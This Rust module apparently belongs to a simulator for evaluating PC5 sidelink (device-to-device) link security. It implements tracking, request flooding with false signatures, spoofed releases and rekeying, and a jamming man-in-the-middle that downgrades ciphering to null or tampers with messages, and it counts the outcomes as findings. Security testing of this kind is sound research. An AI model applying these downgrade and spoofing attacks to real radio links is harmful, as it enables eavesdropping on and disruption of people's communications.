//! Attacks on the blocks of links: the adversaries of T4.1 and TRK that are possible with a radio.

use super::{Attack, AttackContext, Injection};
use sidelink_mac::mux::{Address, Multiplexer};
use sidelink_wire::ids::{GroupDestinationId, Layer2Id, Lcid};
use sidelink_wire::pc5_signalling::{
    self as pc5, Body, Coding, CommunicationRequest, RekeyingRequest, Repr, SIGNATURE_LEN, UserInfo,
};
use sidelink_wire::pdcp::{HEADER_LEN, MAC_I_LEN, OneToOneRepr, Packet, SduType};
use sidelink_wire::{rlc_um, sl_sch};
use std::collections::{BTreeMap, BTreeSet};

/// Change of a PDU in flight.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Alter {
    /// Removes the strong algorithms from every request: EEA2 and EIA2.
    BidDown,
    /// Removes every algorithm but null.
    NullOnly,
    /// Removes every ciphering algorithm but null, and leaves integrity.
    NullCiphering,
    /// Replaces the nonces in requests and commands.
    Nonces,
    /// Flips a bit of the data.
    Data,
    /// Flips the last bit of every protected message.
    Protected,
    /// Flips the last bit of the last part of messages from UE_1 that are longer than a block.
    Long,
    /// Keeps back the first PDUs of the security mode channel from UE_1: DIRECT_SECURITY_MODE_COMPLETE.
    Completes {
        /// Number of PDUs.
        keep: u64,
    },
}

/// Kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    /// A0: listens and records the parties.
    Track,
    /// A1: sends this many requests in the name of UE_1, from identities that no UE has.
    Flood {
        /// Number of requests.
        requests: u64,
        /// What they carry to be answered.
        with: Lure,
    },
    /// A1: sends refusals, releases and re-keying in the peers' names, without protection.
    Spoof,
    /// A3: jams all control information but its own, and forwards what it received, altered.
    Middle(Alter),
}

/// The generator of P-256, uncompressed: FIPS 186-4 D.1.2.3.
const P256_GENERATOR: [u8; 65] = [
    0x04, 0x6b, 0x17, 0xd1, 0xf2, 0xe1, 0x2c, 0x42, 0x47, 0xf8, 0xbc, 0xe6, 0xe5, 0x63, 0xa4, 0x40, 0xf2,
    0x77, 0x03, 0x7d, 0x81, 0x2d, 0xeb, 0x33, 0xa0, 0xf4, 0xa1, 0x39, 0x45, 0xd8, 0x98, 0xc2, 0x96, 0x4f,
    0xe3, 0x42, 0xe2, 0xfe, 0x1a, 0x7f, 0x9b, 0x8e, 0xe7, 0xeb, 0x4a, 0x7c, 0x0f, 0x9e, 0x16, 0x2b, 0xce,
    0x33, 0x57, 0x6b, 0x31, 0x5e, 0xce, 0xcb, 0xb6, 0x40, 0x68, 0x37, 0xbf, 0x51, 0xf5,
];

/// What the requests of a flood carry.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Lure {
    /// Made-up KD IDs.
    MadeUp,
    /// The KD ID of a received request.
    KdId,
    /// False signatures.
    Signature,
}

impl Lure {
    /// Octets of a request with it on the air, at most.
    const fn octets(self) -> usize {
        match self {
            Self::MadeUp | Self::KdId => 60,
            Self::Signature => 190,
        }
    }
}

/// An attack with its findings.
pub(crate) struct LinkAttack {
    kind: Kind,
    /// UE_1 and UE_2.
    pair: [Layer2Id; 2],
    found: BTreeMap<&'static str, u64>,
    sources: BTreeSet<Layer2Id>,
    kd_ids: BTreeSet<[u8; 4]>,
    /// KD-sess IDs of each direction, without 0.
    sessions: BTreeMap<(Layer2Id, Layer2Id), BTreeSet<u16>>,
    turn: u64,
    /// Counter that makes every request different.
    drawn: u64,
}

impl LinkAttack {
    pub(crate) fn new(kind: Kind, pair: [Layer2Id; 2], seed: u64) -> Self {
        Self {
            kind,
            pair,
            found: BTreeMap::new(),
            sources: BTreeSet::new(),
            kd_ids: BTreeSet::new(),
            sessions: BTreeMap::new(),
            turn: 0,
            drawn: seed << 32,
        }
    }

    /// Returns its findings and actions, as names and numbers.
    pub(crate) fn findings(&self) -> BTreeMap<String, u64> {
        let mut found: BTreeMap<String, u64> =
            self.found.iter().map(|(k, v)| ((*k).to_owned(), *v)).collect();
        if self.kind == Kind::Track {
            let most = self.sessions.values().map(BTreeSet::len).max().unwrap_or(0);
            found.insert("layer-2 identities heard".to_owned(), self.sources.len() as u64);
            found.insert("KD IDs in the clear".to_owned(), self.kd_ids.len() as u64);
            found.insert("session keys followed by one pair of identities".to_owned(), most as u64);
        }
        found
    }

    fn count(&mut self, what: &'static str) {
        *self.found.entry(what).or_default() += 1;
    }

    /// Records the parties of a PDU, as far as they are visible.
    fn track(&mut self, pdu: &Heard<'_>) {
        self.count("PDUs heard");
        self.sources.insert(pdu.source);
        let Some(header) = header(pdu.octets) else { return };
        if header.kd_sess_id != 0 {
            self.sessions.entry((pdu.source, pdu.destination)).or_default().insert(header.kd_sess_id);
        }
        if let Some(Body::CommunicationRequest(request)) = message(pdu.octets, 0).map(|m| m.body) {
            self.count("requests with a name in the clear");
            self.kd_ids.extend(request.kd_id);
        }
    }

    /// Returns a PDU to forward, altered; `None` when it is kept back.
    fn alter(&mut self, alter: Alter, pdu: &Heard<'_>) -> Option<Vec<u8>> {
        let mut octets = pdu.octets.to_vec();
        let signalling = pdu.lcid.is_signalling();
        match alter {
            Alter::BidDown | Alter::NullOnly | Alter::NullCiphering | Alter::Nonces => {
                let command = pdu.lcid == Lcid::PC5_S_SECURITY_MODE;
                let tail = if command { MAC_I_LEN } else { 0 };
                let mut parsed = message(pdu.octets, tail)?;
                match &mut parsed.body {
                    Body::CommunicationRequest(request) => {
                        match alter {
                            // bit 8 is algorithm 0
                            Alter::BidDown => {
                                request.capabilities.eea &= !0x20;
                                request.capabilities.eia &= !0x20;
                            }
                            Alter::NullOnly => {
                                (request.capabilities.eea, request.capabilities.eia) = (0x80, 0x80)
                            }
                            Alter::NullCiphering => request.capabilities.eea = 0x80,
                            _ => request.nonce[0] ^= 1,
                        }
                        self.count("requests altered");
                    }
                    Body::SecurityModeCommand(command) if alter == Alter::Nonces => {
                        command.nonce[0] ^= 1;
                        self.count("commands altered");
                    }
                    _ => return Some(octets),
                }
                let len = parsed.buffer_len(Coding::Lte);
                parsed.emit(Coding::Lte, octets.get_mut(HEADER_LEN..HEADER_LEN + len)?).ok()?;
            }
            Alter::Data if !signalling => {
                // the first character of the text
                *octets.get_mut(HEADER_LEN)? ^= 1;
                self.count("data altered");
            }
            Alter::Protected if signalling && pdu.lcid != Lcid::PC5_S_UNPROTECTED => {
                *octets.last_mut()? ^= 1;
                self.count("protected messages altered");
            }
            Alter::Completes { keep }
                if pdu.lcid == Lcid::PC5_S_SECURITY_MODE
                    && pdu.source == self.pair[0]
                    && self.found.get("messages kept back").is_none_or(|n| *n < keep) =>
            {
                self.count("messages kept back");
                return None;
            }
            _ => {}
        }
        Some(octets)
    }

    /// Makes a request in the name of UE_1.
    fn request(&mut self, sequence: u16, with: Lure) -> Option<Vec<u8>> {
        let mut nonce = [0; 16];
        self.drawn += 1;
        nonce[..8].copy_from_slice(&self.drawn.to_be_bytes());
        let request = CommunicationRequest {
            user_info: UserInfo { kind: 1, value: b"mary" },
            ip_config: 1,
            maximum_inactivity: 4,
            nonce,
            capabilities: pc5::Capabilities { eea: 0xe0, eia: 0xe0 },
            kd_sess_msb: self.drawn as u8,
            kd_id: match with {
                Lure::MadeUp => Some((0x1000 + self.drawn as u32).to_be_bytes()),
                Lure::KdId => Some([0, 0, 0, 1]),
                Lure::Signature => None,
            },
            relay_service_code: None,
            signature: (with == Lure::Signature).then(|| self.false_signature()),
            link_local: None,
            key_info: None,
            connection: None,
            policy: None,
            target: None,
        };
        plain(sequence, Body::CommunicationRequest(request))
    }

    /// A signature with the form of one: r and s within the field, and the generator of P-256 as PVT, so that all of the
    /// verification is done.
    fn false_signature(&self) -> [u8; SIGNATURE_LEN] {
        let mut signature = [0x5a; SIGNATURE_LEN];
        signature[..8].copy_from_slice(&self.drawn.to_be_bytes());
        signature[64..].copy_from_slice(&P256_GENERATOR);
        signature
    }

    /// Makes every message that could end or change a link if it were accepted.
    fn lies(&self, sequence: u16) -> Vec<(Lcid, Vec<u8>)> {
        let request = RekeyingRequest {
            capabilities: pc5::Capabilities { eea: 0x80, eia: 0x80 },
            nonce: [7; 16],
            kd_sess_msb: 7,
            re_auth: None,
            pruk_id: None,
            key_info: None,
        };
        let said = [
            (Lcid::PC5_S_UNPROTECTED, Body::CommunicationReject { cause: 1 }),
            (Lcid::PC5_S_UNPROTECTED, Body::SecurityModeReject { cause: 8, rand: None, auts: None }),
            (Lcid::PC5_S_UNPROTECTED, Body::Release { reason: 3 }),
            (Lcid::PC5_S_PROTECTED, Body::Release { reason: 3 }),
            (Lcid::PC5_S_UNPROTECTED, Body::RekeyingTrigger),
            (Lcid::PC5_S_PROTECTED, Body::RekeyingRequest(request)),
        ];
        said.into_iter().filter_map(|(lcid, body)| Some((lcid, plain(sequence, body)?))).collect()
    }
}

impl Attack for LinkAttack {
    fn heard(&mut self, _t: u64, group: u8, block: &[u8], context: &mut AttackContext) {
        let Some(pdus) = heard(group, block) else { return };
        match self.kind {
            Kind::Track => pdus.iter().for_each(|pdu| self.track(pdu)),
            Kind::Flood { .. } | Kind::Spoof => {}
            Kind::Middle(alter) => {
                let Some((source, destination)) = pdus.first().map(|p| (p.source, p.destination)) else {
                    let mut block = block.to_vec();
                    if alter == Alter::Long
                        && let Some(octet) = last_part(self.pair[0], &block).and_then(|at| block.get_mut(at))
                    {
                        *octet ^= 1;
                        self.count("long messages altered");
                    }
                    let block = as_long(&block, context.octets).unwrap_or(block);
                    context.injections.push_back(Injection { group, block });
                    return;
                };
                self.count("PDUs passed on or kept");
                let on: Vec<_> = pdus.iter().filter_map(|p| Some((p.lcid, self.alter(alter, p)?))).collect();
                if !on.is_empty() {
                    let block = self::block(source, destination, &on, context.octets);
                    context.injections.extend(block.map(|block| Injection { group, block }));
                }
            }
        }
    }

    fn period(&mut self, _t: u64, context: &mut AttackContext) {
        self.turn += 1;
        let [mary, john] = self.pair;
        match self.kind {
            Kind::Track => {}
            Kind::Middle(_) => context.jam = true,
            Kind::Flood { requests, with } => {
                while context.injections.len() < 4 {
                    let source =
                        Layer2Id::new(0x20_0000 + self.turn as u32 * 16 + context.injections.len() as u32);
                    let Ok(source) = source else { return };
                    let mut pdus = Vec::new();
                    while (pdus.len() + 1) * with.octets() + 10 < context.octets {
                        if self.found.get("requests sent").is_some_and(|n| *n >= requests) {
                            break;
                        }
                        self.count("requests sent");
                        pdus.extend(
                            self.request(pdus.len() as u16, with).map(|pdu| (Lcid::PC5_S_UNPROTECTED, pdu)),
                        );
                    }
                    let Some(block) = block(source, john, &pdus, context.octets).filter(|_| !pdus.is_empty())
                    else {
                        return;
                    };
                    context.injections.push_back(Injection { group: group_of(john), block });
                }
            }
            Kind::Spoof => {
                let (from, to) = if self.turn.is_multiple_of(2) { (mary, john) } else { (john, mary) };
                let lies = self.lies(self.turn as u16);
                if let Some(block) = block(from, to, &lies, context.octets) {
                    *self.found.entry("lies told").or_default() += lies.len() as u64;
                    context.injections.push_back(Injection { group: group_of(to), block });
                }
            }
        }
    }
}

/// A PDCP PDU in a block.
pub(crate) struct Heard<'a> {
    pub(crate) source: Layer2Id,
    pub(crate) destination: Layer2Id,
    pub(crate) lcid: Lcid,
    pub(crate) octets: &'a [u8],
}

/// Returns the whole PDUs of a block between two UEs; none if it has only parts. `None` for other blocks.
pub(crate) fn heard(group: u8, block: &[u8]) -> Option<Vec<Heard<'_>>> {
    let packet = sl_sch::Packet::new_checked(block).ok()?;
    let source = Layer2Id::from_octets(packet.source());
    let repr = sl_sch::Repr::parse(&packet).ok()?;
    let address = Address::from_wire(&repr.destination, Some(GroupDestinationId(group))).ok()?;
    let Address::Ue(destination) = address else { return None };
    let mut all = Vec::new();
    for sdu in repr.sdus() {
        let (Ok(lcid), Ok(packet)) = (Lcid::new(sdu.lcid), rlc_um::Packet::new_checked(sdu.data)) else {
            continue;
        };
        let framing = packet.framing();
        if framing.continues || framing.unfinished {
            return Some(Vec::new());
        }
        all.extend(packet.elements().map(|octets| Heard { source, destination, lcid, octets }));
    }
    Some(all)
}

/// The same SDUs in a block of `octets` octets: the padding says where they end.
fn as_long(block: &[u8], octets: usize) -> Option<Vec<u8>> {
    let repr = sl_sch::Repr::parse(&sl_sch::Packet::new_checked(block).ok()?).ok()?;
    let mut longer = vec![0; octets];
    repr.emit(&mut longer).ok()?;
    Some(longer)
}

/// The place of the last octet of a message of `source` that began in an earlier block and ends in this one.
fn last_part(source: Layer2Id, block: &[u8]) -> Option<usize> {
    let packet = sl_sch::Packet::new_checked(block).ok()?;
    let repr = sl_sch::Repr::parse(&packet).ok()?;
    let sdu = repr.sdus().iter().find(|sdu| sdu.lcid == Lcid::PC5_S_UNPROTECTED.value())?;
    let pdu = rlc_um::Packet::new_checked(sdu.data).ok()?;
    if Layer2Id::from_octets(packet.source()) != source || !pdu.framing().continues {
        return None;
    }
    let part = pdu.elements().next().filter(|_| !pdu.framing().unfinished)?;
    Some((part.as_ptr() as usize - block.as_ptr() as usize) + part.len() - 1)
}

pub(crate) fn header(pdu: &[u8]) -> Option<OneToOneRepr> {
    OneToOneRepr::parse(&Packet::new_checked(pdu).ok()?).ok()
}

/// Parses the message of a PDU that is not ciphered, with `tail` octets of MAC-I behind it.
pub(crate) fn message(pdu: &[u8], tail: usize) -> Option<Repr<'_>> {
    let octets = pdu.get(HEADER_LEN..pdu.len().checked_sub(tail)?)?;
    Repr::parse(&pc5::Packet::new_checked(Coding::Lte, octets).ok()?).ok()
}

/// Makes an unprotected PDU with a message.
pub(crate) fn plain(sequence: u16, body: Body<'_>) -> Option<Vec<u8>> {
    let repr = Repr { sequence, body };
    let mut pdu = vec![0; HEADER_LEN + repr.buffer_len(Coding::Lte)];
    OneToOneRepr { sdu_type: SduType::Pc5Signalling, kd_sess_id: 0, sn: 0 }.emit(&mut pdu).ok()?;
    repr.emit(Coding::Lte, &mut pdu[HEADER_LEN..]).ok()?;
    Some(pdu)
}

/// Makes a block of `octets` octets with the source `source`.
pub(crate) fn block(
    source: Layer2Id,
    to: Layer2Id,
    pdus: &[(Lcid, Vec<u8>)],
    octets: usize,
) -> Option<Vec<u8>> {
    let mut mux = Multiplexer::new(source);
    let address = Address::Ue(to);
    for (lcid, pdu) in pdus {
        // one channel is added once
        let _ = mux.add_channel(address, *lcid, 1, 4096, 16);
        mux.push(address, *lcid, pdu).ok()?;
    }
    let mut block = vec![0; octets];
    mux.emit_transport_block(address, &mut block).ok()?;
    Some(block)
}

pub(crate) fn group_of(id: Layer2Id) -> u8 {
    id.group_destination().0
}
